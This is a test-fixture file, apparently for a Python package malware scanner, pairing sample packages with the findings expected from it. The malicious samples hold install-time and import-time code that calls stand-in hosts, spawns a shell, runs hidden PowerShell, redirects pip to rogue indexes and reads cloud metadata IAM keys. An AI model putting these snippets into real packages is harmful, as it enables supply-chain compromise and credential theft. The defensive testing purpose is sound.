import type { Sample, Samples } from '../contract.ts';
import { quiet, sdist, wheel } from '../samples-kit.ts';
import { fetcherSamples } from './fetcher-samples.ts';
import { LESSER } from './lesser-samples.ts';

function at(rule: string, severity: 'medium' | 'high', line: number, file = 'setup.py'): Sample['expected'] {
  return [{ rule, file, line, severity }];
}

const COMMAND = (body: string): string =>
  `from setuptools import setup\nfrom setuptools.command.install import install\nclass Own(install):\n    def run(self):\n        ${body}\n        install.run(self)\nsetup(name='own', cmdclass={'install': Own})\n`;

export const samples: Samples = {
  malicious: [
    ...LESSER,
    ...fetcherSamples,
    {
      name: 'a request whose answer nobody reads',
      files: wheel(
        'import urllib.request\ndef go():\n    answer = urllib.request.urlopen("https://count.weir.test/own").read()\ngo()\n',
      ),
      expected: at('request', 'high', 3, 'own/__init__.py'),
    },
    {
      name: 'a name that is looked up for nothing',
      files: wheel('import socket\nsocket.gethostbyname("own.names.weir.test")\n'),
      expected: at('lookup', 'high', 2, 'own/__init__.py'),
    },
    {
      name: 'a name below that of a name server',
      files: wheel('import socket\nsocket.getaddrinfo("own.dns.google.names.weir.test", 0)\n'),
      expected: at('lookup', 'high', 2, 'own/__init__.py'),
    },
    {
      name: 'a file from a place where anybody leaves some',
      files: wheel(
        'import requests\nDATA = requests.get("https://drop.weir.test/attachments/1/2/own").content\nprint(DATA)\n',
      ),
      expected: at('request', 'high', 2, 'own/__init__.py'),
    },
    {
      name: 'a test that nothing imports, which asks whether there is a network',
      files: {
        ...wheel('NAME = 1\n'),
        'own_checks/test_names.py': "import socket\nsocket.gethostbyname('www.weir.test')\n",
      },
      expected: at('lookup', 'medium', 2, 'own_checks/test_names.py'),
    },
    {
      name: 'a request whose answer is read',
      files: wheel(
        'import requests\nLIST = requests.get("https://count.weir.test/list").json()\nprint(LIST)\n',
      ),
      expected: at('request', 'medium', 2, 'own/__init__.py'),
    },
    {
      name: 'a shell without a line to run',
      files: wheel('import subprocess\nsubprocess.call("/bin/sh", shell=True)\n'),
      expected: at('program', 'high', 2, 'own/__init__.py'),
    },
    {
      name: 'a script beside the setup script that is not there',
      files: sdist(
        `import os, subprocess, sys\n${COMMAND('subprocess.call([sys.executable, os.path.join(os.path.dirname(__file__), "go.py")])')}`,
      ),
      expected: at('program', 'high', 6),
    },
    {
      name: 'a command of the setup script that another module defines',
      files: sdist(
        "from own.hooks import Go\nfrom setuptools import setup\nsetup(name='own', cmdclass={'install': Go})\n",
        {
          'own/__init__.py': '',
          'own/hooks.py':
            "import urllib.request\nfrom setuptools.command.install import install\nclass Go(install):\n    def run(self):\n        urllib.request.urlopen('https://a.weir.test/x')\n",
        },
      ),
      expected: at('request', 'high', 5, 'own/hooks.py'),
    },
    {
      name: 'a program that is ended when the module is loaded',
      files: wheel("import os\nos.system('taskkill /F /IM own.exe')\n"),
      expected: at('program', 'high', 2, 'own/__init__.py'),
    },
    {
      name: 'another index that a setup script names',
      files: sdist(
        "import os\nfrom setuptools import setup\nos.system('pip install --index-url https://index.weir.test/simple other')\nsetup(name='own')\n",
      ),
      expected: at('package-install', 'high', 3),
    },
    {
      name: 'another index for all projects when the module is loaded',
      files: wheel(
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'config', '--user', 'set', 'global.index-url', 'https://index.weir.test/simple'])\n",
      ),
      expected: at('package-source', 'high', 2, 'own/__init__.py'),
    },
    {
      name: 'another index that the environment of a setup script names',
      files: sdist(
        "import os\nfrom setuptools import setup\nos.environ['PIP_INDEX_URL'] = 'https://index.weir.test/simple'\nos.system('pip install other')\nsetup(name='own')\n",
      ),
      expected: at('package-install', 'high', 4),
    },
    {
      name: 'another runtime at each start of Python',
      filename: 'own-1.0-py3-none-any.whl',
      files: {
        ...wheel(''),
        'own-setup.pth': "import subprocess; subprocess.Popen(['bun', 'run', 'x.js'])\n",
      },
      expected: at('program', 'high', 1, 'own-setup.pth'),
    },
    {
      name: 'another runtime while the package is installed',
      files: sdist(`import subprocess\n${COMMAND("subprocess.call(['node', '-p', 'process.version'])")}`),
      expected: at('program', 'medium', 6),
    },
    {
      name: 'another runtime when the module is loaded',
      files: wheel(
        "import os, subprocess\nsubprocess.Popen(['node', os.path.join(os.path.dirname(__file__), 'own.js')])\n",
      ),
      expected: at('program', 'high', 2, 'own/__init__.py'),
    },
    {
      name: 'the keys that a cloud gives its machines',
      files: wheel(
        "import requests\nKEYS = requests.get('http://169.254.169.254/latest/meta-data/iam/').text\n",
      ),
      expected: at('request', 'high', 2, 'own/__init__.py'),
    },
    {
      name: 'an archive that a module installs by its address',
      files: wheel(
        'import os, sys\nos.system(f"{sys.executable} -m pip install https://files.weir.test/a/own-1.0.tar.gz")\n',
      ),
      expected: at('package-install', 'high', 2, 'own/__init__.py'),
    },
    {
      name: 'a program that goes on when the module is loaded',
      files: wheel(
        'import os, subprocess, sys\nplace = os.getcwd() + "/own.py"\nsubprocess.Popen([sys.executable, place], creationflags=subprocess.DETACHED_PROCESS)\n',
      ),
      expected: at('program', 'high', 3, 'own/__init__.py'),
    },
    {
      name: 'a file that a command of the setup script leaves in the folder of the user',
      files: sdist(
        `import os\n${COMMAND('open(os.path.join(os.path.expanduser("~"), "here.txt"), "w").write("here")')}`,
      ),
      expected: at('mark', 'high', 6),
    },
    {
      name: 'a request of a setup script of which nothing is kept',
      files: sdist(
        'import os\nfrom setuptools import setup\nos.system("curl https://count.weir.test/own")\nsetup(name="own")\n',
      ),
      expected: at('program', 'high', 3),
    },
    {
      name: 'a mark that a setup script leaves',
      files: sdist(
        'import os\nfrom setuptools import setup\nos.system("echo here > /tmp/mark")\nsetup(name="own")\n',
      ),
      expected: at('mark', 'high', 3),
    },
    {
      name: 'a thread that another module lends',
      files: {
        ...wheel(
          'import threading\ndef go():\n    from .ping import ping\n    threading.Thread(target=ping).start()\ngo()\n',
        ),
        'own/ping.py': 'import requests\ndef ping():\n    requests.get("https://own.free.weir.test/up")\n',
      },
      expected: at('request', 'high', 3, 'own/ping.py'),
    },
    {
      name: 'a request of the setup script',
      files: sdist("import requests\nrequests.get('https://count.weir.test/hello')\n"),
      expected: at('request', 'high', 2),
    },
    {
      name: 'a request of an install command, to a bare address',
      files: sdist(`import urllib.request\n${COMMAND("urllib.request.urlopen('http://203.0.113.9/a')")}`),
      expected: at('request', 'high', 6),
    },
    {
      name: 'a name that an install command looks up',
      files: sdist(`import socket\n${COMMAND("socket.gethostbyname('own.names.weir.test')")}`),
      expected: at('lookup', 'high', 6),
    },
    {
      name: 'a program that no build needs',
      files: sdist("import os\nos.system('powershell -w hidden -File own.txt')\n"),
      expected: at('program', 'high', 2),
    },
    {
      name: 'a request when a module is loaded, through another file',
      files: {
        ...wheel('from .ping import hello\nhello()\n'),
        'own/ping.py': "import requests\ndef hello():\n    requests.post('https://free.weir.test/x')\n",
      },
      expected: at('request', 'high', 3, 'own/ping.py'),
    },
    {
      name: 'packages that a module installs in silence',
      files: wheel(
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'other'], stdout=subprocess.DEVNULL)\n",
      ),
      expected: at('package-install', 'high', 2, 'own/__init__.py'),
    },
    {
      name: 'a script that the package does not hold',
      files: {
        ...sdist(
          COMMAND('self.spawn()') + "import subprocess\nsubprocess.check_call(['tools\\\\get.bat'])\n",
        ),
        'tools/other.bat': 'echo hello\r\n',
      },
      expected: at('program', 'high', 9),
    },
    {
      name: 'a Windows program that the code makes and starts',
      files: wheel(
        "import subprocess\nopen('viewer.exe', 'wb').write(DATA)\nNAME = 'viewer'\nsubprocess.run(['viewer.exe'])\n",
      ),
      expected: at('program', 'high', 4, 'own/__init__.py'),
    },
    {
      name: 'a build that fetches a file and compares its digest',
      files: sdist(
        "import hashlib\nfrom urllib.request import urlretrieve\nurlretrieve('https://files.weir.test/own-1.2.tar.gz', 'own.tar.gz')\nassert hashlib.sha256(open('own.tar.gz', 'rb').read()).hexdigest() == 'ab12'\n",
      ),
      expected: at('request', 'medium', 3),
    },
    {
      name: 'a script that is not there, in what a version of Python that is in use chooses',
      files: sdist(
        `import subprocess, sys\nif sys.version_info[0] == 3:\n    source = 'new'\nelse:\n    source = 'old'\n${COMMAND("source == 'new' and subprocess.call(['./convert.sh'])")}`,
      ),
      expected: at('program', 'high', 10),
    },
  ],
  benign: [
    quiet(
      'a script that only Python 2 would have started',
      sdist(
        `import subprocess, sys\nif sys.version_info[0] == 3:\n    source = 'new'\nelse:\n    source = 'old'\n${COMMAND("source == 'old' and subprocess.call(['./convert.sh'])")}`,
      ),
    ),
    quiet(
      'another index for all projects, when somebody asks for it',
      wheel(
        "import subprocess\n\n\ndef configure(address='https://index.weir.test/simple'):\n    subprocess.run(['pip', 'config', 'set', 'global.index-url', address])\n",
      ),
    ),
    quiet(
      'a mirror for all projects',
      wheel(
        "import subprocess\nsubprocess.run(['pip', 'config', 'set', 'global.index-url', 'https://mirrors.weir.test/simple'])\n",
      ),
    ),
    quiet(
      'a host that the environment names',
      wheel('import os, socket\nFOUND = socket.getaddrinfo(os.environ.get("OWN_AGENT"), 80)\nprint(FOUND)\n'),
    ),
    quiet(
      'a tool of the path that is called like a script',
      sdist(
        "import subprocess\nfrom setuptools import setup\nsubprocess.call(['rst2man.py', 'own.rst'])\nsetup(name='own')\n",
      ),
    ),
    quiet('a script of the build that is there', {
      ...sdist(
        "import os\nfrom setuptools import setup\nos.system('python tools/make.py')\nsetup(name='own')\n",
      ),
      'tools/make.py': 'print(1)\n',
    }),
    quiet(
      'a script that the setup script writes first',
      sdist(
        "import subprocess\nfrom setuptools import setup\nopen('probe.py', 'w').write('print(1)')\nsubprocess.call(['python', 'probe.py'])\nsetup(name='own')\n",
      ),
    ),
    quiet(
      'a network of a module’s own, understood by the system',
      wheel(
        'import socket\ndef address(name):\n    return next(a for a in socket.getaddrinfo(name, None))\nclass Net:\n    def __init__(self, net):\n        self.net = address(net.split("/")[0])\nANY = Net(NAMES[0])\n',
      ),
    ),
    quiet('a script of its own that builds', {
      ...sdist("import subprocess\nsubprocess.check_call(['native\\\\build.bat'])\n"),
      'native/build.bat': '@echo off\r\ncl /O2 /c src\\own.c\r\nlib /OUT:own.lib own.obj\r\n',
    }),
    quiet('a script of its own that builds, started from the folder that the build goes to', {
      ...sdist(
        "import os, subprocess\nos.chdir(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'src', 'build'))\nsubprocess.call([r'..\\nbuild.bat'])\n",
      ),
      'src/nbuild.bat': '@echo off\r\ncl /O2 /c own.c\r\n',
    }),
    quiet(
      'a program of the path by its name on Windows',
      wheel(
        "import os, subprocess\nPLAYER = 'viewer' if os.name == 'posix' else 'viewer.exe'\nsubprocess.run(['viewer.exe', '--version'])\n",
      ),
    ),
    quiet('a helper that gets its address from who calls it', {
      ...wheel('from .net import ask\nANSWER = ask(get_address())\n'),
      'own/net.py':
        "import requests\ndef ask(url):\n    session = requests.Session()\n    return session.request('GET', url)\n",
    }),
    quiet(
      'a question about the processor that a function asks',
      wheel(
        "import subprocess\ndef name():\n    return subprocess.check_output(['wmic', 'cpu', 'get', 'name'])\n",
      ),
    ),
    quiet(
      'another runtime that a function starts',
      wheel("import subprocess\ndef check(path):\n    return subprocess.run(['node', '--check', path])\n"),
    ),
    quiet(
      'a server that a function starts for itself',
      wheel(
        'import subprocess, sys\ndef serve():\n    subprocess.Popen([sys.executable, "-m", "own.server"], start_new_session=True)\n',
      ),
    ),
    quiet(
      'a command that a function runs in a temporary folder',
      wheel('import os\ndef mark():\n    os.system("echo here > /tmp/mark")\n'),
    ),
    quiet(
      'tools of a build',
      sdist(
        "import subprocess\nsubprocess.check_output(['git', 'describe'])\nsubprocess.call('cmake .', shell=True)\n",
      ),
    ),
    quiet(
      'a client that somebody has to call',
      wheel("import requests\ndef get():\n    return requests.get('https://api.weir.test/')\n"),
    ),
    quiet(
      'a command that somebody has to ask for',
      sdist("import os, sys\nif sys.argv[-1] == 'publish':\n    os.system('curl https://api.weir.test/')\n"),
    ),
    quiet('an upload command of the setup script', sdist(COMMAND("self.get('https://api.weir.test/')"))),
    quiet(
      'the address under which the machine goes out',
      wheel(
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('8.8.8.8', 80))\nADDRESS = s.getsockname()[0]\n",
      ),
    ),
    quiet(
      'a look whether there is a network, by the name of a name server',
      wheel(
        "import socket\ndef is_online():\n    for host in ('one.one.one.one', 'dns.google'):\n        try:\n            socket.getaddrinfo(host, 0)\n            return True\n        except OSError:\n            continue\n    return False\nONLINE = is_online()\n",
      ),
    ),
    quiet(
      'a look whether there is a network',
      wheel(
        "import requests\ntry:\n    requests.get('https://example.com/')\nexcept OSError:\n    print('offline')\n",
      ),
    ),
    quiet(
      'a socket of the file system',
      wheel(
        "import os, socket\ns = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\ns.connect(os.environ['OWN_SOCKET'])\n",
      ),
    ),
    quiet(
      'files that a build makes',
      sdist(COMMAND('open("own/_version.py", "w").write("1"); open("/dev/null", "w").write("")')),
    ),
    quiet('its own machine', wheel("import requests\nrequests.get('http://localhost:8000/health')\n")),
  ],
};
